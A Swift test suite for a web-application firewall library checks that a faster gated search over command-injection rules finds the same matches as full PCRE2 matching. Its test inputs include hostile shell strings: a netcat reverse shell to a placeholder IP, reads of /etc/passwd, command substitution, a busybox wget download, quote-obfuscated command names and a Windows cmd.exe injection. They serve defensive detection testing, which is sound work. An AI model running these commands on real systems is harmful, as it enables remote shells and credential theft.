import CPCRE2
@testable import PalisadeDetect
import PalisadeJSON
import Testing

/// `CRSCommandStart` must never hide a match: the four command rules keep the pattern shape it
/// reasons about, and on every corpus input (and on crafted ones) the gated search finds exactly
/// what the full search finds.
@Suite struct CRSCommandStartTests {
    /// The evasion the patterns put between the letters of a prefix word.
    static let evasion = #"[\"'\)\[\x5c]*(?:(?:(?:\|\||&&)[\s\x0b]*)?\$[!#\(\*\-0-9\?@_a-\{]*)?\x5c?"#
    /// The start alternatives with the evasion removed: a prefix word, a separator, or (first) the start.
    static let words = #"busybox|(?:command|e(?:nv|val)|watch)[\"']?[\s\x0b&\),<>\|].*|[ls]trace|nohup|time(?:[\"']?[\s\x0b&\),<>\|].*|out)|"#
    static let separators = #"[\n\r;=`\{]|\|\|?|&&?|"#
    static let expressions = #"\$(?:\(\(?|[\[\{])|<(?:\(|<<)|>\(|\([\s\x0b]*\))"#

    static var rules: [CRSRule] {
        CRSRulePack.shared.rules.filter { CRSCommandStart.rules[$0.id] != nil }
    }

    @Test func patternsBeginWithTheStartAlternativesTheGateKnows() throws {
        #expect(Self.rules.count == CRSCommandStart.rules.count)
        for rule in Self.rules {
            let pattern = try #require(rule.condition.regex?.pattern)
            let hasStart = try #require(rule.commandStart)
            #expect(hasStart == CRSCommandStart.rules[rule.id])
            #expect(rule.chain.isEmpty && rule.transforms.bits == 0)
            let stripped = pattern.replacingAll(Self.evasion, with: "")
            let expected = hasStart
                ? "(?i)(?:^(?:json\\.|\\x5c)?|" + Self.words + Self.separators + Self.expressions
                : "(?i)(?:" + Self.words + Self.separators + "^\\x5c|" + Self.expressions
            #expect(stripped.hasPrefix(expected), "crs.\(rule.id) starts differently: \(stripped.prefix(240))")
            // The start group is the pattern's first element and is not optional; nothing outside it offers another start.
            #expect(Self.topLevelAlternations(in: String(pattern.dropFirst(4))) == 0, "crs.\(rule.id)")
            #expect(!stripped.dropFirst(expected.count).hasPrefix("?") && !stripped.dropFirst(expected.count).hasPrefix("*"))
            #expect(!pattern.contains("\\x{"), "crs.\(rule.id) would compile in UTF mode, where case folding reaches beyond ASCII")
            #expect(rule.anchoredCondition?.compiled != nil)
        }
    }

    @Test func gatedSearchAgreesWithTheFullSearchOnTheCorpus() throws {
        let values = try CRSCorpus.inputValues().map { Array($0.utf8) }
        let crafted = [
            "ls -la", "email", "env", "uname -a", "json.ls -la", "\\ls", "\\\\cat /etc/passwd", "/bin/cat /etc/passwd",
            "x;cat /etc/passwd", "x|id", "a && whoami", "$(id)", "`id`", "a\nnc -e /bin/sh 1.2.3.4 4444",
            "busybox wget http://x/y", "b'u's'y'b'o'x ls", "c\"o\"mmand cat x", "e\\v\\al cat x", "time curl x",
            "timeout 5 nc x 1", "nohupcat x", "strace ls", "ENV cat /etc/passwd", "Please deliver after 5pm.",
            "12 Rue de l'Église, Apt. #4", "+353 (1) 555-0142", "wa)t[ch ls", "  ! ls -la", "..//..//usr/bin/id",
            "ring twice; if nobody answers", "web; Safari 18.1 / macOS 14.6", "cat", "python3 -c x", "tac /etc/passwd",
        ].map { Array($0.utf8) }
        let scratch = MatchScratch()
        var skipped = 0, candidates = 0, matchedAtCandidates = 0
        for value in values + crafted {
            let input = ScanInput(value)
            for rule in Self.rules {
                let search = CRSCommandStart.search(input, hasStartAlternative: rule.commandStart ?? false)
                guard search != .everywhere else { continue }
                let full = rule.condition.match(input.bytes, scratch: scratch)
                if search == .nowhere { skipped += 1 } else { candidates += 1 }
                if full != nil, search != .nowhere { matchedAtCandidates += 1 }
                #expect(rule.firstMatch(in: input.bytes, scratch: scratch, search: search) == full, "crs.\(rule.id) on \(String(decoding: value, as: UTF8.self)) (\(search))")
            }
        }
        #expect(skipped > 1000)
        #expect(candidates > 1000)
        #expect(matchedAtCandidates > 100)
    }

    @Test func searchKinds() {
        func search(_ text: String, start: Bool) -> CRSCommandStart.Search {
            CRSCommandStart.search(ScanInput(Array(text.utf8)), hasStartAlternative: start)
        }
        #expect(search("email", start: true) == .commandWordAtStart)
        #expect(search("email", start: false) == .nowhere)
        #expect(search("email\n", start: true) == .candidates(start: true))
        #expect(search("email", start: false) == .nowhere)
        #expect(search("\\ls", start: false) == .candidates(start: true))
        #expect(search("x;ls", start: false) == .candidates(start: false))
        #expect(search("x;ls", start: true) == .candidates(start: true))
        #expect(search("x$IFS", start: true) == .everywhere)
        #expect(search("c'o'mm\\and ls", start: false) == .everywhere)
        #expect(search("Time to go", start: false) == .everywhere)
        #expect(search(String(repeating: "a=1&", count: 20), start: false) == .everywhere)
    }

    /// `CommandWords` must never hide a match: on inputs without shell bytes, built from every command
    /// word with what may come before and after it (and from cut, lengthened and case-changed words),
    /// the gated search finds exactly what PCRE2's full search finds.
    @Test func commandWordsHideNoMatch() throws {
        let rules = Self.rules.filter { $0.commandStart == true }
        #expect(rules.count == 2)
        let scratch = MatchScratch()
        var inputs: Set<String> = ["", "ls", "json.ls", "JSON.LS -la", "  !ls", "! ! ls -la", "usr/bin/ls -la", "json. ls", "/bin/ls",
                                   "..//..//usr/bin/id", "orderId", "createdAt", "sku", "SPRING-2026", "tok_1QxYz2AbCdEfGhIjKlMn",
                                   "Please deliver after 5pm.", "dnf install x", "df -h", "7za x a", "python3 -c x", "json.", "json.json.ls"]
        for rule in rules {
            let words = try #require(rule.commandWords, "crs.\(rule.id) has no command words")
            #expect(words.words.count > 40)
            for word in words.words.map({ String(decoding: $0, as: UTF8.self) }) {
                for before in ["", " ", "\t", "!", "json.", "Json. !", "usr/bin/", "./", "a-b/c.d/", "x y/"] {
                    for after in ["", " ", " -la /tmp", "x", "2", "-", ".", ",", " x", "\t-e", "/x", "_a"] {
                        inputs.insert(before + word + after)
                        inputs.insert((before + word + after).uppercased())
                    }
                }
                inputs.insert(String(word.dropLast()))
                inputs.insert(String(word.dropFirst()))
                inputs.insert("x" + word + " -a")
            }
        }
        var seed: UInt64 = 0x2545F4914F6CDD1D
        let alphabet = Array("abcdefghijklmnopqrstuvwxyzLSDF0123456789 -._/!,:@".utf8)
        for _ in 0..<20000 {
            seed ^= seed << 13; seed ^= seed >> 7; seed ^= seed << 17
            let count = Int(seed % 9) + 1
            var text: [UInt8] = []
            for shift in 0..<count { text.append(alphabet[Int((seed >> UInt64(6 * shift)) % UInt64(alphabet.count))]) }
            inputs.insert(String(decoding: text, as: UTF8.self))
        }
        var gated = 0, skipped = 0, matched = 0
        for text in inputs {
            let input = ScanInput(Array(text.utf8))
            for rule in rules {
                let search = CRSCommandStart.search(input, hasStartAlternative: true)
                guard search == .commandWordAtStart else { continue }
                gated += 1
                let full = rule.condition.match(input.bytes, scratch: scratch)
                if full != nil { matched += 1 }
                if rule.commandWords?.mayBeginCommand(input.bytes) == false { skipped += 1 }
                #expect(rule.firstMatch(in: input.bytes, scratch: scratch, search: search) == full, "crs.\(rule.id) on \(text.debugDescription)")
            }
        }
        #expect(gated > 20000)
        #expect(skipped > 10000)
        #expect(matched > 1000)
    }

    /// The same for inputs with separators (`Search.candidates`): every separated command word after
    /// the gaps the patterns allow (blanks, `!`, `(`, quotes, assignments, a path), whole, cut, with
    /// evasion bytes between its letters and in other cases, in prose; the gated search finds what PCRE2 finds.
    @Test func separatedCommandWordsHideNoMatch() throws {
        let scratch = MatchScratch()
        var inputs: Set<String> = ["Ring twice; if nobody answers, leave it with the neighbour (No. 14). Thanks!", "web; Safari 18.1 / macOS 14.6",
                                   "Sleeve 13\" laptop & tablet, recycled felt", "x;l's", "x;l\\s -la", "a=b c=d;e=f ls", "x| a=1 b=2 cat /etc/passwd"]
        for rule in Self.rules {
            let words = try #require(rule.separatedCommandWords, "crs.\(rule.id) has no separated command words")
            #expect(words.evaded && words.words.count > 15)
            for word in words.words.map({ String(decoding: $0, as: UTF8.self) }) {
                let evaded = word.count > 1 ? String(word.prefix(1)) + "'\\\")[" + String(word.dropFirst()) : word
                inputs.insert("x;" + String(word.dropLast()))
                inputs.insert("x;" + word + "x")
                for before in ["", "\\", "json.", "x;", "a && ", "x|", "`", "x\n", "a=b; c=d ", "x{", "<(", "( ) ", "x; /usr/bin/", "x;\"", "x; ! (", "x;a/b/'", "x=y "] {
                    for body in [word, evaded, word.uppercased()] {
                        for after in ["", " -la /tmp"] {
                            inputs.insert(before + body + after)
                        }
                    }
                }
            }
        }
        var gated = 0, skipped = 0, matched = 0
        for text in inputs {
            let input = ScanInput(Array(text.utf8))
            for rule in Self.rules {
                let search = CRSCommandStart.search(input, hasStartAlternative: rule.commandStart ?? false)
                guard case .candidates(let start) = search else { continue }
                gated += 1
                let full = rule.condition.match(input.bytes, scratch: scratch)
                if full != nil { matched += 1 }
                if rule.separatedCommandWords?.mayFollowSeparator(input.bytes, start: start) == false { skipped += 1 }
                #expect(rule.firstMatch(in: input.bytes, scratch: scratch, search: search) == full, "crs.\(rule.id) on \(text.debugDescription)")
            }
        }
        #expect(gated > 20000)
        #expect(skipped > 10000)
        #expect(matched > 10000)
    }

    /// The Windows command rules keep the shape `CommandWords.mayFollowWindowsSeparator` reasons about, and
    /// on every corpus input and on inputs built from every word (after each separator and gap, with
    /// evasion, cut, in other cases) the gated search finds exactly what PCRE2's full search finds.
    @Test func windowsCommandWordsHideNoMatch() throws {
        let rules = CRSRulePack.shared.rules.filter { $0.windowsCommandWords != nil }
        #expect(Set(rules.map(\.id)).isSuperset(of: [932125, 932370, 932380]))
        let start = #"(?i)(?:[\n\r;`\{]|\|\|?|&&?)"#
        var inputs: Set<String> = ["Ring twice; if nobody answers, leave it with the neighbour (No. 14). Thanks!", "web; Safari 18.1 / macOS 14.6",
                                   "Sleeve 13\" laptop & tablet, recycled felt", "a=1&b=2", "x;\"c^m^d\" /c dir", "x| ,@(\"C:/Windows/System32/cmd.exe"]
        inputs.formUnion(try CRSCorpus.inputValues())
        for rule in rules {
            let pattern = try #require(rule.condition.regex?.pattern)
            #expect(pattern.hasPrefix(start), "crs.\(rule.id)")
            let rest = String(pattern.dropFirst(start.count))
            #expect(Self.gaps.dropFirst().contains { rest.hasPrefix($0) }, "crs.\(rule.id) has another gap: \(rest.prefix(200))")
            let words = try #require(rule.windowsCommandWords)
            for word in words.words.map({ String(decoding: $0, as: UTF8.self) }) {
                let evaded = word.count > 1 ? String(word.prefix(1)) + "^\"" + String(word.dropFirst()) : word
                for before in ["x;", "a && ", "x|", "x\n", "`", "x{", "x; \"", "x;(", "x;,@", "x; a/b/", "x;C:/", "x;^", "x\r\n "] {
                    for body in [word, evaded, word.uppercased(), String(word.dropLast())] {
                        for after in ["", " /c x", ".exe", ","] { inputs.insert(before + body + after) }
                    }
                }
            }
        }
        let scratch = MatchScratch()
        var gated = 0, skipped = 0, matched = 0
        for text in inputs where text.utf8.count <= 512 && !text.utf8.contains(0x5C) {
            let bytes = Array(text.utf8)
            for rule in rules {
                gated += 1
                let full = rule.condition.match(bytes, scratch: scratch)
                if full != nil { matched += 1 }
                if rule.windowsCommandWords?.mayFollowWindowsSeparator(bytes) == false { skipped += 1 }
                #expect(rule.firstMatch(in: bytes, scratch: scratch, search: .everywhere) == full, "crs.\(rule.id) on \(text.debugDescription)")
            }
        }
        #expect(gated > 20000)
        #expect(skipped > 10000)
        #expect(matched > 5000)
    }

    /// What the Unix and the Windows patterns allow between their start group and the command word.
    static let gaps = [
        #"[\s\x0b]*(?:[!\$\(\{][\s\x0b]*|(?:[0-9A-Z_a-z]+=[^\s\x0b]+|\$[0-9A-Z_a-z]+)[\s\x0b]+)*[\s\x0b]*[\"']*(?:[\"'-\+\--9\?A-\]_a-z\|]+/)?[\"'\x5c]*"#,
    ] + [#"[^\x5c]*"#, ".*"].map { colonTail in
        #"[\s\x0b]*[\s\x0b\"'\(,@]*(?:[\"'\.-9A-Z_a-z]+/|(?:[\"'\x5c\^]*[0-9A-Z_a-z][\"'\x5c\^]*:"# + colonTail + #"|[ \"'\.-9A-Z\x5c\^_a-z]*)\x5c)?[\"\^]*"#
    }

    /// Letters and digits, which the generator requires of most rules, these among them.
    static let alphanumerics = ByteSet("0123456789ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz")
    /// The command rules that search long runs of separators, quotes and brackets for a place to start.
    static let commandRules: Set<Int> = [932230, 932235, 932250, 932260, 932370, 932380, 932125]

    /// The generator's letter-or-digit requirement holds for the command rules, checked here with PCRE2
    /// itself: each pattern is its start group, then a gap, then a command word that PCRE2 says can only
    /// begin with a letter or digit.
    @Test func everyCommandMatchHoldsALetterOrDigit() throws {
        let rules = CRSRulePack.shared.rules.filter { Self.commandRules.contains($0.id) }
        #expect(rules.count == Self.commandRules.count)
        for rule in rules {
            #expect(rule.requiredBytes.contains { $0.isSubset(of: Self.alphanumerics) }, "crs.\(rule.id)")
            let pattern = try #require(rule.condition.regex?.pattern)
            #expect(pattern.hasPrefix("(?i)(?:") && Self.topLevelAlternations(in: String(pattern.dropFirst(4))) == 0, "crs.\(rule.id)")
            let bytes = Array(pattern.utf8)
            let groupEnd = try #require(Self.endOfGroup(in: bytes, at: 4), "crs.\(rule.id)")
            let rest = String(decoding: bytes[groupEnd...], as: UTF8.self)
            let gap = try #require(Self.gaps.first { rest.hasPrefix($0) }, "crs.\(rule.id) has another gap: \(rest.prefix(200))")
            let word = try #require(CompiledRegex("(?i)" + rest.dropFirst(gap.count)), "crs.\(rule.id)")
            let first = try #require(Self.firstBytes(word), "crs.\(rule.id): PCRE2 knows no first bytes for the word part")
            #expect(first.isSubset(of: Self.alphanumerics), "crs.\(rule.id)")
        }
    }

    /// The bytes PCRE2 says a match of `regex` can begin with; nil when it cannot tell.
    static func firstBytes(_ regex: CompiledRegex) -> ByteSet? {
        var type: UInt32 = 0
        guard pcre2_pattern_info_8(regex.code, UInt32(PCRE2_INFO_FIRSTCODETYPE), &type) == 0 else { return nil }
        if type == 1 {
            var unit: UInt32 = 0
            guard pcre2_pattern_info_8(regex.code, UInt32(PCRE2_INFO_FIRSTCODEUNIT), &unit) == 0, unit < 0x80 else { return nil }
            let byte = UInt8(unit)
            return ByteSet([byte, byte.isLetterOrDigit && byte > 0x40 ? byte ^ 0x20 : byte])
        }
        var bitmap: UnsafePointer<UInt8>?
        guard pcre2_pattern_info_8(regex.code, UInt32(PCRE2_INFO_FIRSTBITMAP), &bitmap) == 0, let bitmap else { return nil }
        return ByteSet((0...255).filter { bitmap[$0 >> 3] & (1 << ($0 & 7)) != 0 }.map(UInt8.init))
    }

    /// The index just past the group that opens at `start`.
    static func endOfGroup(in bytes: [UInt8], at start: Int) -> Int? {
        var end: Int?
        walkStructure(of: bytes, from: start) { byte, index, depth in
            guard byte == UInt8(ascii: ")"), depth == 0 else { return true }
            end = index + 1
            return false
        }
        return end
    }

    /// `|` at the pattern's top level (outside groups and classes), which would offer another place to start.
    static func topLevelAlternations(in pattern: String) -> Int {
        var count = 0
        walkStructure(of: Array(pattern.utf8), from: 0) { byte, _, depth in
            if byte == UInt8(ascii: "|"), depth == 0 { count += 1 }
            return true
        }
        return count
    }

    /// Visits a pattern's bytes outside escapes and character classes with the group depth after
    /// each one, until `visit` returns false.
    static func walkStructure(of bytes: [UInt8], from start: Int, _ visit: (_ byte: UInt8, _ index: Int, _ depth: Int) -> Bool) {
        var depth = 0, index = start, inClass = false
        while index < bytes.count {
            let byte = bytes[index]
            if byte == UInt8(ascii: "\\") { index += 2; continue }
            if inClass {
                if byte == UInt8(ascii: "]") { inClass = false }
            } else if byte == UInt8(ascii: "[") {
                inClass = true
                if index + 1 < bytes.count, bytes[index + 1] == UInt8(ascii: "]") { index += 1 }
            } else {
                if byte == UInt8(ascii: "(") { depth += 1 } else if byte == UInt8(ascii: ")") { depth -= 1 }
                if !visit(byte, index, depth) { return }
            }
            index += 1
        }
    }
}

private extension String {
    func replacingAll(_ target: String, with replacement: String) -> String {
        let bytes = Array(utf8), needle = Array(target.utf8)
        var result: [UInt8] = []
        var from = 0
        while let at = ByteScan.find(needle, in: bytes, from: from) {
            result += bytes[from..<at] + Array(replacement.utf8)
            from = at + needle.count
        }
        return String(decoding: result + bytes[from...], as: UTF8.self)
    }
}
